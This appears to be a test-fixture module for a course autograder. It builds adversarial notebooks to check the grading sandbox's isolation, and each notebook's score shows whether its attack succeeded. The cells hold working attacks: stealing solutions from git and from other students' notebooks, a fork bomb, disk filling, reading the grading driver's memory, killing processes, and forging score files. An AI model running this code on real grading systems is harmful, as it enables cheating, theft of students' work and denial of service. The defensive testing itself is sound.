"""Attacks on the isolation layer (issue 10, classes 1, 5 and 6; issue 9's container attacks).

Each notebook answers ``sigmoid`` and ``mse_and_grad`` honestly (unless ``honest=False``:
then every item is a stub) and defines ``softmax`` to return the right answer **only
if its attack worked** (``ATTACK_WON``). So a notebook scores exactly its honest part
when the attack fails, and more when it succeeds: the score is the test's evidence.
Paths known only at test time come in ``paths``.
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
from adversarial import STUBS
from build_fixtures import MSE, SIGMOID, solutions_notebook

GATED_SOFTMAX = """def softmax(z):
    if globals().get("ATTACK_WON"):
        e = np.exp(z - z.max(axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros_like(z)"""

STUB_BODIES = {**STUBS, "sigmoid": "def sigmoid(z):\n    raise NotImplementedError",
               "mse_and_grad": "def mse_and_grad(pred, target):\n    raise NotImplementedError"}


def _git(paths: dict) -> str:
    return f"""import glob, os, subprocess
import course_lib
ATTACK_WON = False
repos = {json.dumps(paths.get("repos", []))}
repos += [os.path.dirname(os.path.dirname(course_lib.__file__)), os.getcwd()]
for repo in repos:
    for probe in (repo + "/.git/HEAD", repo + "/.git"):
        try:
            with open(probe) as fh:
                fh.read(100)
            ATTACK_WON = True
        except OSError:
            pass
    for obj in glob.glob(repo + "/.git/objects/*/*")[:50]:
        try:
            open(obj, "rb").read(10)
            ATTACK_WON = True
        except OSError:
            pass
    try:
        r = subprocess.run(["git", "-c", "safe.directory=*", "-C", repo, "show",
                            "HEAD:" + {paths.get("in_repo", "")!r}], capture_output=True, timeout=10)
        ATTACK_WON |= b"BEGIN SOLUTION" in r.stdout
    except Exception:
        pass
print("git attack:", ATTACK_WON)"""


def _steal(paths: dict) -> str:
    return f"""import glob, json, os
import numpy as np
ATTACK_WON = False
found = []
for root in {json.dumps(paths["steal_roots"])}:
    for dirpath, dirnames, filenames in os.walk(root):
        found += [os.path.join(dirpath, f) for f in filenames if f.endswith(".ipynb")]
found += glob.glob({json.dumps(paths.get("tmp", "/tmp"))} + "/course-grading-*/run-*/work/submission.ipynb")
found += glob.glob("/proc/*/cwd/submission.ipynb")
for path in found:
    try:
        cells = json.load(open(path))["cells"]
    except (OSError, ValueError, KeyError):
        continue
    for cell in cells:
        src = "".join(cell.get("source", ""))
        if cell.get("cell_type") == "code" and "def softmax" in src and "ATTACK_WON" not in src:
            ns = {{"np": np}}
            try:
                exec(src, ns)
                out = ns["softmax"](np.array([[0.0, 1.0]]))
                ATTACK_WON |= bool(abs(out.sum() - 1.0) < 1e-9)
            except BaseException:
                pass
print("stolen from", len(found), "notebooks:", ATTACK_WON)"""


FORK_BOMB = """import os, time
ATTACK_WON = False
n = 0
try:
    for _ in range(3000):
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        n += 1
except OSError:
    pass
ATTACK_WON = n >= 3000
print("forked", n)"""

DISK = """import os
ATTACK_WON = False
chunk = b"x" * (8 << 20)
totals = {}
for d in ("/tmp", os.getcwd(), "/dev/shm"):
    t = 0
    for i in range(40):  # up to 40 files of 32 MiB (each under the file-size limit): 1.25 GiB
        try:
            with open(f"{d}/fill-{i}", "wb") as fh:
                for _ in range(4):
                    fh.write(chunk)
                    t += len(chunk)
        except OSError:
            break
    totals[d] = t
    for i in range(40):
        try:
            os.remove(f"{d}/fill-{i}")
        except OSError:
            pass
ATTACK_WON = max(totals.values()) >= 1 << 30
print(totals)"""


def _socket(paths: dict) -> str:
    return f"""import socket
ATTACK_WON = False
for target in {json.dumps(paths["sockets"])} + ["\\0" + {paths["abstract"]!r}]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(target)
        s.sendall(b"PWNED")
        ATTACK_WON = True
    except OSError:
        pass
print("socket:", ATTACK_WON)"""


_DRIVERS = """import os
def _drivers():
    found = set()
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if b"driver.py" in open(f"/proc/{p}/cmdline", "rb").read():
                    found.add(int(p))
            except OSError:
                pass
    return found
"""

PPID_MEM = _DRIVERS + """ATTACK_WON = False
for pid in _drivers() | ({os.getppid()} & _drivers()):
    try:
        start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
        with open(f"/proc/{pid}/mem", "rb") as fh:
            fh.seek(start)
            ATTACK_WON |= len(fh.read(16)) == 16
    except (OSError, ValueError):
        pass
print("driver memory:", ATTACK_WON)"""

KILL_PARENT = _DRIVERS + """import signal
for pid in _drivers() | {os.getppid()}:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass"""


def _forge(paths: dict) -> str:
    fake = json.dumps({"score": 1000.0, "output": "forged", "tests": []})
    return f"""import os, subprocess, sys
targets = {json.dumps(paths["forge_targets"])}
code = '''import json, sys, time
for _ in range(300):
    for t in sys.argv[1:]:
        try:
            open(t, "w").write({fake!r})
        except OSError:
            pass
    time.sleep(0.1)
'''
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        open(t, "w").write({fake!r})
    except OSError:
        pass
subprocess.Popen([sys.executable, "-c", code, *targets], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"""


def build(dest: Path, paths: dict, names: list[str], honest: bool = True) -> dict[str, Path]:
    """Write the named attack notebooks into ``dest``; returns name -> path."""
    cells = {"iso_git": lambda: _git(paths), "iso_classmate": lambda: _steal(paths),
             "iso_steal": lambda: _steal(paths), "iso_fork_bomb": lambda: FORK_BOMB, "iso_disk": lambda: DISK,
             "iso_socket": lambda: _socket(paths), "iso_ppid_mem": lambda: PPID_MEM,
             "iso_kill_parent": lambda: KILL_PARENT, "iso_forge": lambda: _forge(paths)}
    base = {"sigmoid": SIGMOID, "mse_and_grad": MSE} if honest else {}
    out = {}
    for name in names:
        nb = solutions_notebook({**STUB_BODIES, **base, "softmax": GATED_SOFTMAX}, [cells[name]()])
        out[name] = dest / f"{name}.ipynb"
        nbformat.write(nb, out[name])
    return out


def stub(dest: Path) -> Path:
    """An untouched stub: every item raises NotImplementedError."""
    nbformat.write(solutions_notebook(STUB_BODIES), dest)
    return dest
